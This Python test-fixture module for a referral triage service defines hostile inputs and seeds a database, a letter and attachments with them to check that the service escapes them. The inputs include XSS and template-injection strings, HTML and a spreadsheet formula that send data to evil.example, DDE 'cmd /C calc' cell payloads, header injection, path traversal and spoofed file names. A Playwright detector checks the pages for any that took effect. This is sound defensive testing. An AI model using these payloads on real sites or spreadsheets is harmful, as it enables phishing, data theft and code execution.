"""What strangers may write into a form, a letter or the name of a file to harm whoever reads it: a table of the kinds, and letters
and rows of a desk that hold them."""

from __future__ import annotations

import random
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any, Final

from playwright.sync_api import Page
from sqlmodel import Session

from parsers.reading import State
from parsers.record import KEYS, PROFESSIONAL_PARTS, Key, KeyType
from store import letters
from store.engine import Store
from store.models import Action, AuditEvent, Document, EmailKind, EmailState, Letter, LetterState, Outbox, Referral
from tests.desk.serving import NOW
from tests.forms.demo import EAST, EAST_ADULT, completed, letter
from triage.reference import new_reference

#: Each of them, where it is taken for anything but text, sets the title of the page, asks another host, or changes how the page looks.
_RAN: Final = "document.title='ran'"
_KINDS: Final[Mapping[str, str]] = {
    "script": f'"><script>{_RAN}</script>',
    "closing": f"</textarea></title></style></script></pre></select><img src=x onerror={_RAN}>",
    "attribute": f'\' onmouseover="{_RAN}" autofocus onfocus={_RAN} x=\'" onfocus="{_RAN}" autofocus y="',
    "link": f"javascript:{_RAN}//",
    "data link": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "svg": f"<svg/onload={_RAN}><a xlink:href=javascript:{_RAN}><text>x</text></a></svg><math><mi xlink:href=data:x,{_RAN}>",
    "template": "{{ 7 * 191 }} {% raw %} ${7 * 191} #{7 * 191} <%= 7 * 191 %> {0.__class__} %s %(a)s",
    "remote": '<img src=https://evil.example/a><link rel=stylesheet href=//evil.example/a.css><iframe src="//evil.example"></iframe>',
    "refresh": '<meta http-equiv=refresh content="0;url=https://evil.example/"><base href="https://evil.example/">',
    "form": '<form action="https://evil.example"><input name=password><button>Sign in again</button></form>',
    "style": '<style>*{display:none}</style><p style="position:fixed;inset:0;background:url(//evil.example/a)">',
    "entities": f"&lt;script&gt;{_RAN}&lt;/script&gt; &#60;img src=x onerror={_RAN}&#62; &quot;&apos;",
    "formula": '=HYPERLINK("https://evil.example?"&A1,"here")',
    "command": "+cmd|' /C calc'!A0",
    "negative": "-2+3+cmd|' /C calc'!A0",
    "function": "@SUM(1+1)*cmd|' /C calc'!A0",
    "header": f"a\r\nSet-Cookie: a=b\r\n\r\n<script>{_RAN}</script>",
    "path": "..\\..\\../../../../etc/passwd",
    "reordered": "Wix \u202egpj.exe \u2066xslx\u2067 \u200f",
    "hidden": "W\u200bi\u2060x\ufeff\u00ad\u180e",
    "controls": "W\x01i\x07x\x08 \x1b[31mred\x1b[0m \x7f\x85\u2028\u2029",
    "marks": "Z" + "\u0351\u036b\u0310\u0489" * 60 + "algo",
    "tall": "\ufdfd\U0001f469\u200d\U0001f469\u200d\U0001f467\u0e33\u0e33" * 40,
    "one word": "x" * 20_000,
    "many lines": "\n" * 2_000 + "x",
}
TEXTS: Final = {**_KINDS, "everything": "\n".join(text for text in _KINDS.values() if len(text) < 2_000)}

#: Names of files as strangers give them, with what lies behind them and the type that the letter says it has.
SCRIPTED: Final = f"<!DOCTYPE html><title>t</title><script>{_RAN}</script>".encode()
FILES: Final[tuple[tuple[str, bytes, str], ...]] = (
    ("form.pdf", SCRIPTED, "application/pdf"),
    ("picture.png", f"GIF89a=0;{_RAN}//".encode() + SCRIPTED, "image/png"),
    ("drawing.svg", f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_RAN}"><script>{_RAN}</script></svg>'.encode(), "image/svg+xml"),
    ("page.mhtml", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + SCRIPTED, "message/rfc822"),
    ("page.html", SCRIPTED, "text/html"),
    ("page.xhtml", SCRIPTED, "application/xhtml+xml"),
    ("style.css", b"*{display:none}", "text/css"),
    ("code.js", _RAN.encode(), "text/javascript"),
    ("table.csv", TEXTS["formula"].encode(), "text/csv"),
    ("../../../../etc/passwd", b"root", "text/plain"),
    ("..\\..\\windows\\system.ini", b"a", "text/plain"),
    ('a";\r\nset-cookie: a=b;x=".txt', b"a", "text/plain"),
    ("<img src=x onerror=alert(1)>.txt", b"a", "text/plain"),
    ("gpj.\u202etxt.exe", b"MZ", "application/octet-stream"),
    ("x" * 3_000 + ".pdf", SCRIPTED, "application/pdf"),
    ("=cmd|' /C calc'!A0.csv", b"a", "text/csv"),
    ("con", b"a", "text/plain"),
    ("", b"a", "text/html"),
)

#: Answers that a form can hold whole, one kind a question; the reading keeps some of them, and shows where it does not.
_ANSWERS: Final = {
    **EAST_ADULT,
    "person.family_name": "Wix" + TEXTS["script"],
    "person.given_name": "Orla " + TEXTS["attribute"],
    "person.preferred_name": TEXTS["formula"],
    "person.address": TEXTS["remote"],
    "person.gp_practice": TEXTS["template"],
    "person.gp_name": TEXTS["svg"],
    "person.communication_needs": TEXTS["closing"],
    "diagnosis.other": TEXTS["reordered"],
    "referral.reason": TEXTS["refresh"],
    "risk.current_issues": TEXTS["form"],
    "plan.tried": TEXTS["entities"],
    "plan.would_help": TEXTS["one word"][:5_000],
    "plan.actions": TEXTS["style"],
    "consent.given_by": TEXTS["link"],
    "referral.referrer_name": TEXTS["command"],
    "support.professionals": (
        {"name": TEXTS["script"], "role": TEXTS["formula"], "organisation": TEXTS["remote"], "phone": TEXTS["link"]},
    ),
}


def hostile_letter() -> bytes:
    """A letter with a form whose answers, and with files whose names and bytes, are hostile."""
    written = letter(
        f"{TEXTS['script']} <a@example.org>".replace('"', ""),
        EAST,
        "Referral " + TEXTS["remote"],
        "Mon, 23 Nov 2026 09:12:00 +0000",
        90,
        (TEXTS["closing"], TEXTS["refresh"], TEXTS["reordered"]),
        ("form.docx", completed("saltmarsh", _ANSWERS)),
    )
    for name, data, media_type in FILES:
        kind, _, form = media_type.partition("/")
        if kind == "message":
            kind, form = "application", "octet-stream"
        written.add_attachment(data, kind, form, filename=name.replace("\r\n", " "))
    return written.as_bytes()


#: Elements and attributes that no page of ours has in its main part: whatever is one came out of a text.
_FOREIGN: Final = """
  document.title === 'ran' || [...document.querySelectorAll(
    'main :is(img, iframe, object, embed, base, meta, link, style, script, math, template, [style], [autofocus], [onload], [onerror], [onfocus], [onmouseover])'
  )].map(found => found.outerHTML.slice(0, 200))
  .concat([...document.querySelectorAll('a, form, area')].map(found => found.getAttribute('href') ?? found.getAttribute('action') ?? '#')
    .filter(where => !/^(#|[/](?![/])|[?])/.test(where)))
"""


def foreign(page: Page) -> Any:
    """What stands on the page and came out of a text: elements, attributes, links that lead away; `True` when a script ran."""
    return page.evaluate(_FOREIGN)


@dataclass(frozen=True, slots=True)
class Made:
    """The rows of one kind: the referral's reference, its letter, an e-mail about it."""

    reference: str
    letter: int
    email: int


def made_of_every_kind(store: Store) -> dict[str, Made]:
    """A letter, a referral, a file and an e-mail of each kind of TEXTS, with the text in every place that may hold words: more than a
    reading ever lets through."""
    found = {}
    for number, (kind, text) in enumerate(TEXTS.items()):
        with store.transaction() as session:
            found[kind] = _made(session, number, text)
    return found


def _made(session: Session, number: int, text: str) -> Made:
    key = letters.keep(
        session, mailbox="east", uid_validity=8, uid=number + 1, message_id=None, received_at=NOW, raw=_message(text), now=NOW
    )
    assert key is not None
    row = session.get_one(Letter, key)
    row.state, row.kind, row.reason, row.danger, row.outcome_at = LetterState.SET_ASIDE, "referral", text, [text], NOW
    session.add(
        Document(
            letter_id=key,
            position=0,
            name=text,
            sha256="0",
            size=len(SCRIPTED),
            data=SCRIPTED,
            kind="unknown",
            problems=[{"reason": "unreadable", "detail": text}],
        )
    )
    referral = Referral(
        reference=new_reference(random.Random(number).randrange),
        letter_id=key,
        position=0,
        form="general",
        missing=[],
        team_suggested="east",
        route_sure=False,
        route_reason=text,
        consent_shown=True,
        consent_reason=text,
        danger=[text],
        arrived_at=NOW,
        arrived_on=NOW.date(),
        family_name=text,
        given_name=text,
        family_name_key=text.casefold()[:200],
        eighteen_on=NOW.date(),
        fields={name: _field(each, text) for name, each in KEYS.items()},
    )
    session.add(referral)
    session.flush()
    email = Outbox(
        kind=EmailKind.ACKNOWLEDGEMENT,
        recipient=text,
        subject=text,
        text=text,
        letter_id=key,
        referral_id=referral.id,
        mailbox="east",
        state=EmailState.FAILED,
        last_error=text,
        owed_at=NOW,
        token=f"hostile-{number}",
    )
    session.add(email)
    session.add(AuditEvent(at=NOW, actor=text, action=Action.REFERRAL_SEEN, referral_id=referral.id, detail={"field": text, text: text}))
    session.flush()
    assert email.id is not None
    return Made(referral.reference, key, email.id)


def _field(key: Key, text: str) -> dict[str, Any]:
    value: Any = [dict.fromkeys(PROFESSIONAL_PARTS, text)] if key.type is KeyType.LIST else [text] if key.type is KeyType.CHOICES else text
    return {"value": value, "state": State.CONFLICT.value, "note": text, "others": [value], "other_places": [None]}


def _message(text: str) -> bytes:
    said = " ".join(text.split())[:5_000]
    return f"From: {said} <a@example.org>\r\nSubject: {said}\r\n\r\n{text}".encode("utf-8", "replace")
